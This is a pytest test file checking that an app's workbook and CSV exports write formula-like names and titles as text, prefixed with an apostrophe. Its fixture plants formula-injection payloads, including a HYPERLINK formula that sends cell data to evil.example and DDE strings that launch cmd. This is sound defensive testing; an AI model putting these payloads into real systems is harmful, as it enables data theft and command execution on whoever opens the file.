"""Every workbook and CSV the app writes shows people's text as text: a name or title
that starts like a formula is written with an apostrophe, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.core.sheets import FORMULA_STARTS, neutralise, unneutralise
from app.decisions.models import Escalation
from app.extensions import db
from app.issues.models import Category, Issue
from app.kpis.models import Kpi
from app.people.models import User

EVIL_CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EVIL_TITLE = "+cmd|' /C calc'!A0"
EVIL_NAME = "@SUM(1+1)*cmd"
EVIL_QUESTION = "-2+3+cmd|' /C calc'!A0"
EVIL_KPI = "=1+1"

# Every spreadsheet the app offers (the leader may download them all).
WORKBOOKS = [
    "/issues/export.xlsx",
    "/issues/import/template.xlsx",
    "/decisions.xlsx",
    "/kpis/import/template.xlsx",
]


@pytest.fixture
def hostile_world(app, world):
    """The world's names and titles, as someone who knows spreadsheets would type them."""
    from app.core.scope import unscoped

    with app.app_context(), unscoped():
        db.session.get(Category, world.category_id).name = EVIL_CATEGORY
        db.session.get(Issue, world.issue_id).title = EVIL_TITLE
        db.session.get(User, world.users["member"]).display_name = EVIL_NAME
        db.session.get(Escalation, world.ids["escalation"]).question = EVIL_QUESTION
        db.session.get(Kpi, world.ids["kpi"]).name = EVIL_KPI
        db.session.commit()
    return world


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))  # formulas as written, not their values
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("url", WORKBOOKS)
def test_no_workbook_holds_a_formula_made_of_peoples_text(hostile_world, client, auth, url):
    auth.login("leader")
    response = client.get(url)
    assert response.status_code == 200, url
    for cell in _cells(response.data):
        assert cell.data_type != "f", (url, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (url, cell.coordinate, cell.value)


def test_the_import_template_lists_a_formula_like_category_as_text(hostile_world, client, auth):
    auth.login("leader")
    cells = list(_cells(client.get("/issues/import/template.xlsx").data))
    values = {cell.value for cell in cells}
    assert neutralise(EVIL_CATEGORY) in values  # the example row and the list of categories


def test_the_csv_export_holds_no_formula(hostile_world, client, auth):
    auth.login("leader")
    text = client.get("/issues/export.csv").data.decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    assert neutralise(EVIL_TITLE) in fields
    assert not any(field.startswith(FORMULA_STARTS) for field in fields)


def test_the_template_filled_in_imports_back(hostile_world, client, auth):
    """The apostrophe is taken off again: the template's example row names the category."""
    auth.login("leader")
    template = client.get("/issues/import/template.xlsx").data
    response = client.post(
        "/issues/import",
        data={"file": (io.BytesIO(template), "template.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]


def test_neutralise_and_unneutralise():
    for dangerous in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx"):
        assert neutralise(dangerous) == "'" + dangerous
        assert unneutralise(neutralise(dangerous)) == dangerous
    assert neutralise("正常") == "正常" and unneutralise("'正常") == "'正常"
    assert neutralise(-3) == -3 and neutralise(None) is None
